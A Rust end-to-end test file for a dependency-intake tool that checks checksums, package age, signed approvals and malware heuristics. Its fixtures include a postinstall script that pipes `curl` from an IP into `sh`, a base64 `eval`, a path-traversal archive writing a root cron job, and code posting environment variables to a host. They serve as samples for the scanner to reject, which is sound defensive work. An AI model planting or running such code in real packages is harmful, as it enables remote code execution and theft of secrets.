//! End-to-end tests of `zt deps intake`, `zt deps request`, `zt deps approve` and
//! `zt deps requests`: the real binary in a temporary repository.
#![allow(clippy::unwrap_used, clippy::panic, clippy::indexing_slicing)]

use std::path::Path;
use std::process::{Command, Output};

use zt_deps::intake::archive::{gzip, write_tar};

fn zt(dir: &Path, args: &[&str]) -> Output {
    zt_env(dir, args, &[])
}

fn zt_env(dir: &Path, args: &[&str], env: &[(&str, &str)]) -> Output {
    let mut c = Command::new(env!("CARGO_BIN_EXE_zt"));
    c.args(args)
        .current_dir(dir)
        .env_clear()
        .env("PATH", std::env::var_os("PATH").unwrap_or_default())
        .env("HOME", dir)
        .env("NO_COLOR", "1");
    for (k, v) in env {
        c.env(k, v);
    }
    c.output().unwrap()
}

fn json(o: &Output) -> serde_json::Value {
    serde_json::from_slice(&o.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}): {}\nstderr: {}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        )
    })
}

/// Generates `NAME` (private) and `NAME.pub` in `dir` and, when `listed`, names the key as an
/// approver in `zt.toml`. Returns the private key's file name.
fn approver(dir: &Path, name: &str, listed: bool) -> String {
    let o = zt(dir, &["key", "generate", "--out", name]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    if listed {
        let path = dir.join("zt.toml");
        let mut text = fs_err::read_to_string(&path).unwrap_or_default();
        text.push_str(&format!(
            "\n[[deps.approver]]\nname = \"{name}\"\npublic_key = \"{name}.pub\"\n"
        ));
        fs_err::write(&path, text).unwrap();
    }
    name.to_string()
}

/// `zt deps request demo` by alice (signed with the pipeline key); its JSON.
fn request_demo(d: &Path) -> serde_json::Value {
    let r = zt_env(
        d,
        &[
            "deps",
            "request",
            "demo",
            "--ecosystem",
            "crates.io",
            "--justification",
            "adds numbers",
            "--maintenance-plan",
            "platform team, monthly updates",
            "--json",
        ],
        &[("USER", "alice")],
    );
    assert_eq!(
        r.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    json(&r)
}

fn now() -> i64 {
    std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_secs() as i64
}

/// A `.crate` (gzipped tar) with a manifest and a library.
fn good_crate(dir: &Path) -> (std::path::PathBuf, String) {
    let tar = write_tar(&[
        (
            "demo-1.0.0/Cargo.toml",
            b"[package]\nname = \"demo\"\nversion = \"1.0.0\"\n",
            0o644,
        ),
        (
            "demo-1.0.0/src/lib.rs",
            b"pub fn add(a: u32, b: u32) -> u32 { a + b }\n",
            0o644,
        ),
    ]);
    let bytes = gzip(&tar);
    let path = dir.join("demo-1.0.0.crate");
    fs_err::write(&path, &bytes).unwrap();
    (path, zt_core::Digest::sha256(&bytes).hex())
}

/// A crates.io index file with one line for demo 1.0.0.
fn index(dir: &Path, cksum: &str, pubtime: i64) -> std::path::PathBuf {
    let line = serde_json::json!({
        "name": "demo", "vers": "1.0.0", "deps": [], "cksum": cksum, "features": {},
        "yanked": false, "pubtime": zt_core::time::rfc3339(pubtime),
    });
    let path = dir.join("de");
    fs_err::write(&path, format!("{line}\n")).unwrap();
    path
}

fn lockfile(dir: &Path, checksum: &str) -> std::path::PathBuf {
    let path = dir.join("Cargo.lock");
    fs_err::write(
        &path,
        format!(
            "version = 4\n\n[[package]]\nname = \"demo\"\nversion = \"1.0.0\"\nsource = \"registry+https://github.com/rust-lang/crates.io-index\"\nchecksum = \"{checksum}\"\n"
        ),
    )
    .unwrap();
    path
}

fn mirror_blobs(dir: &Path) -> Vec<String> {
    let d = dir.join(".zt/mirror/cargo/sha256");
    match fs_err::read_dir(&d) {
        Ok(rd) => rd
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect(),
        Err(_) => Vec::new(),
    }
}

/// The in-toto statement inside a bundle (paths in the output are relative to the repo).
fn json_file(path: &Path) -> serde_json::Value {
    serde_json::from_slice(&fs_err::read(path).unwrap()).unwrap()
}

fn intake_statement(dir: &Path, bundle: &str) -> serde_json::Value {
    let b: serde_json::Value =
        serde_json::from_slice(&fs_err::read(dir.join(bundle)).unwrap()).unwrap();
    let payload = b["dsseEnvelope"]["payload"].as_str().unwrap();
    serde_json::from_slice(&zt_core::b64::decode(payload).unwrap()).unwrap()
}

#[test]
fn a_package_from_the_lockfile_with_matching_checksum_enters_the_mirror() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (archive, sha) = good_crate(d);
    lockfile(d, &sha);
    let idx = index(d, &sha, now() - 30 * 24 * 3600);
    let o = zt(
        d,
        &demo_args(
            archive.to_str().unwrap(),
            &[
                "--lockfile",
                "Cargo.lock",
                "--index",
                idx.to_str().unwrap(),
                "--json",
            ],
        ),
    );
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let v = json(&o);
    assert_eq!(v["verdict"], "admitted");
    assert_eq!(v["checksums"].as_array().unwrap().len(), 2);
    assert!(
        v["checksums"]
            .as_array()
            .unwrap()
            .iter()
            .all(|c| c["matched"] == true)
    );
    assert_eq!(v["age"]["status"], "ok");
    assert_eq!(mirror_blobs(d), std::slice::from_ref(&sha));
    let index: serde_json::Value =
        serde_json::from_slice(&fs_err::read(d.join(".zt/mirror/index.json")).unwrap()).unwrap();
    assert_eq!(index["pkg:cargo/demo@1.0.0"]["sha256"], sha.as_str());
    // the decision is a signed in-toto statement about the archive, in the ledger
    let st = intake_statement(d, v["bundle"].as_str().unwrap());
    assert_eq!(st["predicateType"], zt_core::predicate::ZT_INTAKE_V1);
    assert_eq!(st["subject"][0]["digest"]["sha256"], sha.as_str());
    assert_eq!(st["predicate"]["verdict"], "admitted");
    assert!(d.join(".zt/ledger.db").is_file());
}

#[test]
fn a_checksum_mismatch_is_rejected_and_never_mirrored() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (archive, _) = good_crate(d);
    let wrong = "0".repeat(64);
    lockfile(d, &wrong);
    let o = zt(
        d,
        &demo_args(
            archive.to_str().unwrap(),
            &["--lockfile", "Cargo.lock", "--allow-unknown-age", "--json"],
        ),
    );
    assert_eq!(o.status.code(), Some(1));
    let v = json(&o);
    assert_eq!(v["verdict"], "rejected");
    let reasons: Vec<&str> = v["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["rule"].as_str().unwrap())
        .collect();
    assert_eq!(reasons, ["checksum-mismatch"]);
    assert_eq!(v["checksums"][0]["source"], "lockfile");
    assert!(mirror_blobs(d).is_empty());
    assert!(!d.join(".zt/mirror/index.json").exists());
    // the rejection and its reason are recorded and signed
    let record: serde_json::Value =
        serde_json::from_slice(&fs_err::read(d.join(v["record"].as_str().unwrap())).unwrap())
            .unwrap();
    assert_eq!(record["reasons"][0]["rule"], "checksum-mismatch");
    assert_eq!(
        intake_statement(d, v["bundle"].as_str().unwrap())["predicate"]["verdict"],
        "rejected"
    );
}

#[test]
fn malware_is_rejected_with_its_rule_id() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let pkg = br#"{"name":"evil","version":"1.0.0","scripts":{"postinstall":"curl -s https://203.0.113.7/x.sh | sh"}}"#;
    let js = b"const p = require('child_process');\neval(atob('Y29uc29sZS5sb2coMSk='));\n";
    let bytes = gzip(&write_tar(&[
        ("package/package.json", pkg, 0o644),
        ("package/index.js", js, 0o644),
    ]));
    fs_err::write(d.join("evil-1.0.0.tgz"), &bytes).unwrap();
    let sri = format!(
        "sha512-{}",
        zt_core::b64::encode(
            zt_core::Digest::of_bytes(zt_core::DigestAlgorithm::Sha512, &bytes).bytes()
        )
    );
    let packument = serde_json::json!({
        "name": "evil",
        "versions": {"1.0.0": {"version": "1.0.0", "dist": {"integrity": sri}}},
        "time": {"1.0.0": "2020-01-01T00:00:00.000Z"},
    });
    fs_err::write(d.join("evil.json"), packument.to_string()).unwrap();
    // approved request, so only the heuristics can reject
    let r = zt(
        d,
        &[
            "deps",
            "request",
            "evil",
            "--ecosystem",
            "npm",
            "--justification",
            "test",
            "--maintenance-plan",
            "none",
            "--requester",
            "alice",
            "--json",
        ],
    );
    assert_eq!(
        r.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    let id = json(&r)["id"].as_str().unwrap().to_string();
    let bob = approver(d, "bob", true);
    let o = zt(d, &["deps", "approve", &id, "--key", &bob]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let o = zt(
        d,
        &[
            "deps",
            "intake",
            "evil@1.0.0",
            "--ecosystem",
            "npm",
            "--archive",
            "evil-1.0.0.tgz",
            "--index",
            "evil.json",
            "--json",
        ],
    );
    assert_eq!(o.status.code(), Some(1));
    let v = json(&o);
    assert_eq!(v["verdict"], "rejected");
    assert_eq!(v["checksums"][0]["algorithm"], "sha512");
    assert_eq!(v["checksums"][0]["matched"], true);
    let rules: Vec<&str> = v["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["rule"].as_str().unwrap())
        .collect();
    assert!(rules.contains(&"download-execute"), "{rules:?}");
    assert!(rules.contains(&"npm-exec-base64"), "{rules:?}");
    assert!(!d.join(".zt/mirror/index.json").exists());
    // human output names the rule too
    let o = zt(
        d,
        &[
            "deps",
            "intake",
            "evil@1.0.0",
            "--ecosystem",
            "npm",
            "--archive",
            "evil-1.0.0.tgz",
            "--index",
            "evil.json",
        ],
    );
    assert!(
        String::from_utf8_lossy(&o.stdout).contains("deny [npm-exec-base64] package/index.js:2")
    );
}

#[test]
fn a_version_younger_than_the_quarantine_age_is_held() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (archive, sha) = good_crate(d);
    lockfile(d, &sha);
    let idx = index(d, &sha, now() - 3600);
    let args = demo_args(
        archive.to_str().unwrap(),
        &[
            "--lockfile",
            "Cargo.lock",
            "--index",
            idx.to_str().unwrap(),
            "--json",
        ],
    );
    let o = zt(d, &args);
    assert_eq!(o.status.code(), Some(1));
    let v = json(&o);
    assert_eq!(v["verdict"], "held");
    assert_eq!(v["age"]["status"], "too-new");
    assert_eq!(v["age"]["min_age_hours"], 72);
    assert!(mirror_blobs(d).is_empty());
    // the threshold is policy: zt.toml lowers it
    fs_err::write(
        d.join("zt.toml"),
        "[thresholds]\nmin_package_age_hours = 0\n",
    )
    .unwrap();
    let o = zt(d, &args);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}{}",
        String::from_utf8_lossy(&o.stdout),
        String::from_utf8_lossy(&o.stderr)
    );
    // without any publish time the age fails closed
    fs_err::remove_file(d.join("zt.toml")).unwrap();
    let o = zt(
        d,
        &demo_args(
            archive.to_str().unwrap(),
            &["--lockfile", "Cargo.lock", "--json"],
        ),
    );
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(json(&o)["reasons"][0]["rule"], "age-unknown");
}

/// The arguments of `zt deps intake demo@1.0.0 --ecosystem crates.io --archive ARCHIVE`,
/// then `rest`.
fn demo_args<'a>(archive: &'a str, rest: &[&'a str]) -> Vec<&'a str> {
    let mut args = vec![
        "deps",
        "intake",
        "demo@1.0.0",
        "--ecosystem",
        "crates.io",
        "--archive",
        archive,
    ];
    args.extend_from_slice(rest);
    args
}

/// `zt deps intake demo@1.0.0 --json` of `archive` against the index entry `idx`.
fn intake_demo(d: &Path, archive: &Path, idx: &Path) -> Output {
    zt(
        d,
        &demo_args(
            archive.to_str().unwrap(),
            &["--index", idx.to_str().unwrap(), "--json"],
        ),
    )
}

#[test]
fn a_new_package_needs_a_request_approved_by_someone_else() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (archive, sha) = good_crate(d);
    let idx = index(d, &sha, now() - 30 * 24 * 3600);
    let o = intake_demo(d, &archive, &idx);
    assert_eq!(o.status.code(), Some(1));
    let v = json(&o);
    assert_eq!(v["reasons"][0]["rule"], "no-approved-request");
    assert!(
        v["reasons"][0]["message"]
            .as_str()
            .unwrap()
            .contains("zt deps request demo")
    );

    let req = request_demo(d);
    assert_eq!(req["requester"], "alice");
    assert_eq!(req["status"], "pending");
    let id = req["id"].as_str().unwrap().to_string();
    let st = intake_statement(d, req["bundle"].as_str().unwrap());
    assert_eq!(
        st["predicateType"],
        zt_core::predicate::ZT_DEPENDENCY_REQUEST_V1
    );
    assert_eq!(st["predicate"]["action"], "request");

    // still pending: intake refuses
    assert_eq!(intake_demo(d, &archive, &idx).status.code(), Some(1));
    // A forged request file saying "approved" convinces nobody: approvals are read from
    // signed bundles only.
    let file = d.join(format!(".zt/requests/{id}.json"));
    let mut forged = json_file(&file);
    forged["status"] = "approved".into();
    forged["approval"] = serde_json::json!({"approver": "bob", "at": "2026-01-01T00:00:00Z"});
    fs_err::write(&file, forged.to_string()).unwrap();
    assert_eq!(intake_demo(d, &archive, &idx).status.code(), Some(1));

    let refused = |key: &str, why: &str| {
        let o = zt(d, &["deps", "approve", &id, "--key", key]);
        let err = String::from_utf8_lossy(&o.stderr).into_owned();
        assert_eq!(o.status.code(), Some(1), "{key}: {err}");
        assert!(err.contains(why), "{key}: {err}");
        assert!(
            err.contains("help:") && err.contains("[[deps.approver]]"),
            "{err}"
        );
    };
    // The repository's own key cannot approve: anyone running zt here holds it.
    refused(".zt/keys/pipeline", "repository's key");
    // Nor can a key zt.toml does not list as an approver.
    let mallory = approver(d, "mallory", false);
    refused(&mallory, "not listed as an approver");
    // A listed approver's own key can.
    let bob = approver(d, "bob", true);
    let o = zt(d, &["deps", "approve", &id, "--key", &bob, "--json"]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let a = json(&o);
    assert_eq!(a["approval"]["approver"], "bob");
    assert_eq!(
        intake_statement(d, a["bundle"].as_str().unwrap())["predicate"]["action"],
        "approve"
    );
    // twice is refused
    let carol = approver(d, "carol", true);
    assert_eq!(
        zt(d, &["deps", "approve", &id, "--key", &carol])
            .status
            .code(),
        Some(1)
    );

    // The requester's own key cannot approve, even when it is an approver's.
    let alice = approver(d, "alice", true);
    let r = zt(
        d,
        &[
            "deps",
            "request",
            "other",
            "--ecosystem",
            "crates.io",
            "--justification",
            "j",
            "--maintenance-plan",
            "p",
            "--requester",
            "alice",
            "--key",
            &alice,
            "--json",
        ],
    );
    assert_eq!(
        r.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&r.stderr)
    );
    let other = json(&r)["id"].as_str().unwrap().to_string();
    let o = zt(d, &["deps", "approve", &other, "--key", &alice]);
    assert_eq!(o.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("signed the request"),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    // listed
    let l = json(&zt(d, &["deps", "requests", "--json"]));
    let listed = l["requests"].as_array().unwrap();
    assert!(
        listed
            .iter()
            .any(|r| r["id"] == id.as_str() && r["status"] == "approved"),
        "{l}"
    );
    let human = zt(d, &["deps", "requests"]);
    assert!(String::from_utf8_lossy(&human.stdout).contains(&format!("{id}  approved")));
    // now intake admits it
    let o = intake_demo(d, &archive, &idx);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    assert!(json(&o)["approval"].as_str().unwrap().contains(&id));
}

/// The ledger indexes requests and approvals; without it (deleted, or a new one) the store's
/// own request and approval files count, and only those: an intake reads no other evidence, so
/// it costs the same however many bundles earlier runs stored.
#[test]
fn approvals_count_from_their_own_store_files_when_the_ledger_is_gone() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (archive, sha) = good_crate(d);
    let idx = index(d, &sha, now() - 30 * 24 * 3600);
    let id = request_demo(d)["id"].as_str().unwrap().to_string();
    let bob = approver(d, "bob", true);
    let o = zt(d, &["deps", "approve", &id, "--key", &bob, "--json"]);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let approval = d.join(json(&o)["bundle"].as_str().unwrap());
    let name = approval.file_name().unwrap().to_string_lossy().into_owned();
    assert!(name.starts_with("dependency-approval-"), "{name}");

    let forget_ledger = || {
        for entry in fs_err::read_dir(d.join(".zt")).unwrap() {
            let p = entry.unwrap().path();
            if p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("ledger.db")
            {
                fs_err::remove_file(&p).unwrap();
            }
        }
    };
    forget_ledger();
    let o = intake_demo(d, &archive, &idx);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    assert!(json(&o)["approval"].as_str().unwrap().contains(&id));

    // Under another kind's name the store's copy is not read: the package is held back (never
    // admitted by a file the lookup skipped).
    fs_err::rename(
        &approval,
        approval.with_file_name("build-0000000000000000.sigstore.json"),
    )
    .unwrap();
    forget_ledger();
    let o = intake_demo(d, &archive, &idx);
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&o.stdout)
    );
    assert_eq!(json(&o)["reasons"][0]["rule"], "no-approved-request");
}

#[test]
fn a_crash_half_way_leaves_no_partial_mirror_entry() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let (archive, sha) = good_crate(d);
    lockfile(d, &sha);
    let args = demo_args(
        archive.to_str().unwrap(),
        &["--lockfile", "Cargo.lock", "--allow-unknown-age"],
    );
    let o = zt_env(d, &args, &[("ZT_FAILPOINT", "before-rename:/sha256/")]);
    assert_eq!(o.status.code(), None, "the process should have aborted");
    // only the temporary file: no blob under its digest, no index entry
    let names = mirror_blobs(d);
    assert!(names.iter().all(|n| n.starts_with(".zt-tmp-")), "{names:?}");
    assert!(
        !names.is_empty(),
        "the failpoint should leave the temporary file behind"
    );
    assert!(!d.join(".zt/mirror/index.json").exists());
    // a second run completes and sweeps the leftover
    let o = zt(d, &args);
    assert_eq!(
        o.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    assert_eq!(mirror_blobs(d), [sha]);
}

#[test]
fn bad_input_exits_2_and_names_it() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let o = zt(
        d,
        &[
            "deps",
            "intake",
            "demo",
            "--ecosystem",
            "crates.io",
            "--archive",
            "x.crate",
        ],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("not `NAME@VERSION`"));
    let o = zt(d, &demo_args("missing.crate", &[]));
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("missing.crate"));
    let (archive, _) = good_crate(d);
    fs_err::write(d.join("bad-index"), "{not json\n").unwrap();
    let o = zt(
        d,
        &demo_args(archive.to_str().unwrap(), &["--index", "bad-index"]),
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("bad-index:1"));
    let bob = approver(d, "bob", true);
    let o = zt(d, &["deps", "approve", "REQ-000000000000", "--key", &bob]);
    assert_eq!(o.status.code(), Some(2));
    let o = zt(
        d,
        &[
            "deps",
            "request",
            "x",
            "--ecosystem",
            "npm",
            "--justification",
            "",
            "--maintenance-plan",
            "p",
            "--requester",
            "a",
        ],
    );
    assert_eq!(o.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&o.stderr).contains("--justification"));
    // an archive with a path traversal is a rejection, recorded, not an input error
    let evil = write_tar(&[("../../etc/cron.d/x", b"* * * * * root sh", 0o644)]);
    fs_err::write(d.join("demo-1.0.0.crate"), gzip(&evil)).unwrap();
    let sha = zt_core::Digest::sha256(&fs_err::read(d.join("demo-1.0.0.crate")).unwrap()).hex();
    lockfile(d, &sha);
    let o = zt(
        d,
        &demo_args(
            "demo-1.0.0.crate",
            &["--lockfile", "Cargo.lock", "--allow-unknown-age", "--json"],
        ),
    );
    assert_eq!(o.status.code(), Some(1));
    assert_eq!(json(&o)["reasons"][0]["rule"], "archive-unsafe-path");
}

/// The messages of a decision's `bundled-binary` reasons.
fn binary_reasons(v: &serde_json::Value) -> Vec<String> {
    v["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["rule"] == "bundled-binary")
        .map(|r| r["message"].as_str().unwrap().to_owned())
        .collect()
}

/// `[[deps.malware.accept]]`: a reviewer's acceptance of one rule's deny findings in one archive
/// (by SHA-256) lets it through with those findings as warnings naming the reviewer; the
/// decision lists the acceptance. Another archive of the same release, a file the acceptance
/// does not name, or a malformed entry changes nothing or stops with the field named.
#[test]
fn a_reviewers_acceptance_of_findings_applies_to_that_archive_only() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let elf: &[u8] = b"\x7fELF\x02\x01\x01\x00prebuilt";
    let pkg: &[u8] = br#"{"name":"native-thing","version":"2.0.0"}"#;
    let archive = |name: &str, extra: &[u8]| {
        let bytes = gzip(&write_tar(&[
            ("package/package.json", pkg, 0o644),
            ("package/prebuilds/linux-x64/addon.node", elf, 0o644),
            ("package/vendor/helper", &[elf, extra].concat(), 0o755),
        ]));
        fs_err::write(d.join(name), &bytes).unwrap();
        zt_core::Digest::sha256(&bytes).hex()
    };
    let sha = archive("native-thing-2.0.0.tgz", b"");
    let other = archive("other.tgz", b"!");
    let intake = |file: &str| {
        let o = zt(
            d,
            &[
                "deps",
                "intake",
                "native-thing@2.0.0",
                "--ecosystem",
                "npm",
                "--archive",
                file,
                "--allow-unknown-age",
                "--json",
            ],
        );
        (o.status.code(), o)
    };
    let (_, o) = intake("native-thing-2.0.0.tgz");
    assert_eq!(binary_reasons(&json(&o)).len(), 2, "both binaries reject");
    fs_err::write(
        d.join("zt.toml"),
        format!(
            "[[deps.malware.accept]]\npackage = \"native-thing\"\nversion = \"2.0.0\"\nsha256 = \"{sha}\"\nrule = \"bundled-binary\"\nfiles = [\"package/prebuilds/*/*.node\"]\nreason = \"the Node-API addon built by the project's release workflow\"\nreviewer = \"alice\"\n"
        ),
    )
    .unwrap();
    let (_, o) = intake("native-thing-2.0.0.tgz");
    let v = json(&o);
    let left = binary_reasons(&v);
    assert_eq!(left.len(), 1, "{left:?}");
    assert!(left[0].starts_with("package/vendor/helper"), "{left:?}");
    let addon = v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["file"] == "package/prebuilds/linux-x64/addon.node")
        .unwrap();
    assert_eq!(addon["severity"], "warn");
    assert!(
        addon["message"].as_str().unwrap().ends_with(
            "(accepted by alice: the Node-API addon built by the project's release workflow)"
        ),
        "{addon}"
    );
    assert_eq!(v["accepted"][0]["reviewer"], "alice");
    assert_eq!(v["accepted"][0]["findings"], 1);
    assert_eq!(v["accepted"][0]["files"][0], "package/prebuilds/*/*.node");
    // the same release in other bytes: reviewed again
    let (_, o) = intake("other.tgz");
    let v = json(&o);
    assert_eq!(binary_reasons(&v).len(), 2);
    assert!(v.get("accepted").is_none(), "{v}");
    assert_ne!(sha, other);
    // a malformed acceptance stops the intake, naming the field and what it must be
    let text = fs_err::read_to_string(d.join("zt.toml")).unwrap();
    fs_err::write(d.join("zt.toml"), text.replace(&sha, &sha[..40])).unwrap();
    let (code, o) = intake("native-thing-2.0.0.tgz");
    assert_eq!(code, Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("deps.malware.accept[0].sha256") && err.contains("64 lowercase hex"),
        "{err}"
    );
}

/// `[deps.malware] platforms`: a bundled program built for a platform the mirror does not
/// serve (a Windows `.exe` in a mirror for Linux and macOS) warns, saying why; one for a
/// served platform still rejects; a name that is no platform stops the intake.
#[test]
fn bundled_programs_for_platforms_the_mirror_does_not_serve_only_warn() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let mut pe = vec![0u8; 0x90];
    pe[0..2].copy_from_slice(b"MZ");
    pe[0x3c] = 0x80;
    pe[0x80..0x84].copy_from_slice(b"PE\0\0");
    let elf: &[u8] = b"\x7fELF\x02\x01\x01\x00prebuilt";
    let pkg: &[u8] = br#"{"name":"launcher","version":"1.0.0"}"#;
    let write = |members: &[(&str, &[u8], u32)]| {
        fs_err::write(d.join("launcher-1.0.0.tgz"), gzip(&write_tar(members))).unwrap();
    };
    let intake = || {
        zt(
            d,
            &[
                "deps",
                "intake",
                "launcher@1.0.0",
                "--ecosystem",
                "npm",
                "--archive",
                "launcher-1.0.0.tgz",
                "--allow-unknown-age",
                "--json",
            ],
        )
    };
    write(&[
        ("package/package.json", pkg, 0o644),
        ("package/bin/kill.exe", &pe, 0o644),
    ]);
    // (no approved request either: the intake rejects for that in every case; only the
    // `bundled-binary` reasons differ)
    // every platform by default: the Windows program rejects
    let o = intake();
    assert_eq!(binary_reasons(&json(&o)).len(), 1);
    fs_err::write(
        d.join("zt.toml"),
        "[deps.malware]\nplatforms = [\"linux\", \"macOS\"]\n",
    )
    .unwrap();
    let o = intake();
    let v = json(&o);
    assert_eq!(binary_reasons(&v), Vec::<String>::new(), "{v}");
    let f = &v["findings"][0];
    assert_eq!(f["rule"], "bundled-binary");
    assert_eq!(f["severity"], "warn");
    assert!(
        f["message"].as_str().unwrap().ends_with(
            "(built for windows: the mirror serves linux and macos only, `[deps.malware] platforms`)"
        ),
        "{f}"
    );
    // a Linux program in the same mirror still rejects
    write(&[
        ("package/package.json", pkg, 0o644),
        ("package/bin/kill.exe", &pe, 0o644),
        ("package/bin/helper", elf, 0o755),
    ]);
    let o = intake();
    let v = json(&o);
    let left = binary_reasons(&v);
    assert_eq!(left.len(), 1, "{v}");
    assert!(left[0].starts_with("package/bin/helper"), "{left:?}");
    // a name that is no platform
    fs_err::write(
        d.join("zt.toml"),
        "[deps.malware]\nplatforms = [\"win32\"]\n",
    )
    .unwrap();
    let o = intake();
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("`[deps.malware] platforms` in `zt.toml` names `win32`, which is no platform")
            && err.contains("help: list platforms as `linux`, `macos` or `windows`"),
        "{err}"
    );
}

/// `[deps.malware] rules` adds a folder of YARA rules (GuardDog 3.x conventions) to the
/// built-in ones, each finding names its rule file and context; a deny-level finding in a
/// package's tests only warns; a rule that does not compile stops the intake by name.
#[test]
fn rule_folders_from_zt_toml_and_findings_in_tests() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let rules = d.join("rules");
    fs_err::create_dir_all(&rules).unwrap();
    fs_err::write(
        rules.join("threat-evil-marker.yar"),
        "rule threat_evil_marker {\n meta:\n  description = \"the evil marker\"\n  zt_severity = \"deny\"\n  path_include = \"*.py\"\n strings:\n  $m = \"EVIL_MARKER(\"\n condition:\n  $m\n}\n",
    )
    .unwrap();
    fs_err::write(d.join("zt.toml"), "[deps.malware]\nrules = [\"rules\"]\n").unwrap();
    let setup =
        b"from setuptools import setup\nsetup(name='p', install_requires=['urllib3>=1.21.1'])\n";
    let bytes = gzip(&write_tar(&[
        ("p-1.0/setup.py", setup, 0o644),
        ("p-1.0/p/__init__.py", b"x = 1\n", 0o644),
        (
            "p-1.0/tests/test_x.py",
            b"import os, requests\nrequests.post('https://example.org', data=os.environ)\nEVIL_MARKER()\n",
            0o644,
        ),
    ]));
    fs_err::write(d.join("p-1.0.tar.gz"), &bytes).unwrap();
    let args = [
        "deps",
        "intake",
        "p@1.0",
        "--ecosystem",
        "pypi",
        "--archive",
        "p-1.0.tar.gz",
        "--allow-unknown-age",
        "--json",
    ];
    let o = zt(d, &args);
    let v = json(&o);
    let malware: Vec<&str> = v["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["rule"].as_str().unwrap())
        .filter(|r| !["no-approved-request", "checksum-missing"].contains(r))
        .collect();
    // nothing in tests rejects, and `urllib3` in install_requires is no network use
    assert!(malware.is_empty(), "{malware:?}");
    let findings = v["findings"].as_array().unwrap();
    let marker = findings
        .iter()
        .find(|f| f["rule"] == "threat-evil-marker")
        .unwrap();
    assert_eq!(marker["context"], "tests");
    assert_eq!(marker["severity"], "warn");
    assert_eq!(marker["line"], 3);
    assert_eq!(marker["source"]["kind"], "yara");
    assert!(
        marker["source"]["file"]
            .as_str()
            .unwrap()
            .ends_with("rules/threat-evil-marker.yar")
    );
    let exfil = findings
        .iter()
        .find(|f| f["rule"] == "exfiltrate-sensitive-data")
        .unwrap();
    assert_eq!(
        (
            &exfil["context"],
            &exfil["severity"],
            &exfil["source"]["kind"]
        ),
        (&"tests".into(), &"warn".into(), &"semgrep".into())
    );
    assert_eq!(
        exfil["source"]["file"],
        "builtin/exfiltrate-sensitive-data.yml"
    );

    // the same code in the package's own module rejects, naming rule, file and context
    let bytes = gzip(&write_tar(&[(
        "p-1.0/p/__init__.py",
        b"import os, requests\nrequests.post('https://example.org', data=os.environ)\nEVIL_MARKER()\n",
        0o644,
    )]));
    fs_err::write(d.join("p-1.0.tar.gz"), &bytes).unwrap();
    let v = json(&zt(d, &args));
    let reasons: Vec<(&str, &str)> = v["reasons"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| (r["rule"].as_str().unwrap(), r["message"].as_str().unwrap()))
        .collect();
    let marker = reasons
        .iter()
        .find(|r| r.0 == "threat-evil-marker")
        .unwrap();
    assert!(
        marker.1.starts_with("p-1.0/p/__init__.py:3:"),
        "{}",
        marker.1
    );
    assert!(marker.1.contains("code in"), "{}", marker.1);
    assert!(
        reasons.iter().any(|r| r.0 == "exfiltrate-sensitive-data"),
        "{reasons:?}"
    );

    // a rule that does not compile: exit 2, the file named
    fs_err::write(
        rules.join("broken.yar"),
        "rule broken { condition: $nope }\n",
    )
    .unwrap();
    let o = zt(d, &args);
    assert_eq!(o.status.code(), Some(2));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("broken.yar"), "{err}");
}
